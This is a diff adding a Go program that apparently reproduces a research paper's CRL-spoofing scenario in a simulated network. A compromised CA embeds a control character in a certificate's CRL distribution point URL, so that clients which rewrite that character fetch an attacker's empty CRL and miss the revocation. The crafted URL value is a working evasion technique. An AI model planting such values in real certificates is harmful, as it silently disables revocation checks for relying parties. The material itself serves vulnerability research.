@@ -1,0 +1,94 @@
+// revocation: replay the §5.2 CRL-spoofing threat end to end. A
+// compromised CA issues a certificate whose CRL distribution point
+// embeds a control character; clients whose parsers rewrite the URL
+// (PyOpenSSL's '.'-substitution) fetch the attacker's clean CRL and
+// never learn the certificate was revoked.
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/big"
+	"time"
+
+	"repro/internal/revocation"
+	"repro/internal/x509cert"
+)
+
+func main() {
+	caKey, err := x509cert.GenerateKey(801)
+	if err != nil {
+		log.Fatal(err)
+	}
+	leafKey, err := x509cert.GenerateKey(802)
+	if err != nil {
+		log.Fatal(err)
+	}
+	caDN := x509cert.SimpleDN(x509cert.TextATV(x509cert.OIDCommonName, "Compromised CA"))
+	caDER, err := x509cert.BuildSelfSigned(&x509cert.Template{
+		SerialNumber: big.NewInt(1),
+		Issuer:       caDN, Subject: caDN,
+		NotBefore: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
+		NotAfter:  time.Date(2034, 1, 1, 0, 0, 0, 0, time.UTC),
+		IsCA:      true,
+	}, caKey)
+	if err != nil {
+		log.Fatal(err)
+	}
+	ca, err := x509cert.Parse(caDER)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// The crafted distribution point: "ssl\x01test.com". The CA's real
+	// CRL (revoking our serial) lives there; the attacker controls the
+	// control-stripped "ssl.test.com" and serves an empty CRL.
+	craftedURL := "http://ssl\x01test.com/ca.crl"
+	strippedURL := "http://ssl.test.com/ca.crl"
+
+	leafDER, err := x509cert.Build(&x509cert.Template{
+		SerialNumber:          big.NewInt(4242),
+		Issuer:                caDN,
+		Subject:               x509cert.SimpleDN(x509cert.TextATV(x509cert.OIDCommonName, "victim.example")),
+		NotBefore:             time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC),
+		NotAfter:              time.Date(2025, 4, 1, 0, 0, 0, 0, time.UTC),
+		SAN:                   []x509cert.GeneralName{x509cert.DNSName("victim.example")},
+		CRLDistributionPoints: []x509cert.GeneralName{x509cert.URIName(craftedURL)},
+	}, caKey, leafKey)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	realCRL, err := x509cert.BuildCRL(&x509cert.CRLTemplate{
+		Issuer:     caDN,
+		ThisUpdate: time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC),
+		NextUpdate: time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC),
+		Revoked: []x509cert.RevokedCertificate{
+			{SerialNumber: big.NewInt(4242), RevocationDate: time.Date(2025, 1, 20, 0, 0, 0, 0, time.UTC)},
+		},
+	}, caKey)
+	if err != nil {
+		log.Fatal(err)
+	}
+	attackerCRL, err := x509cert.BuildCRL(&x509cert.CRLTemplate{
+		Issuer:     caDN,
+		ThisUpdate: time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC),
+	}, caKey)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	net := revocation.NewNetwork()
+	net.Publish(craftedURL, realCRL)
+	net.Publish(strippedURL, attackerCRL)
+
+	fmt.Println("certificate serial 4242 is revoked on the CA's CRL at the crafted URL")
+	fmt.Printf("crafted CRLDP: %q\n\n", craftedURL)
+	for _, res := range revocation.SpoofExperiment(net, ca, leafDER, craftedURL) {
+		marker := ""
+		if res.Subverted {
+			marker = "  ← revocation silently disabled"
+		}
+		fmt.Printf("%-20s fetched %-35q status=%s%s\n", res.Library, res.URL, res.Status, marker)
+	}
+}
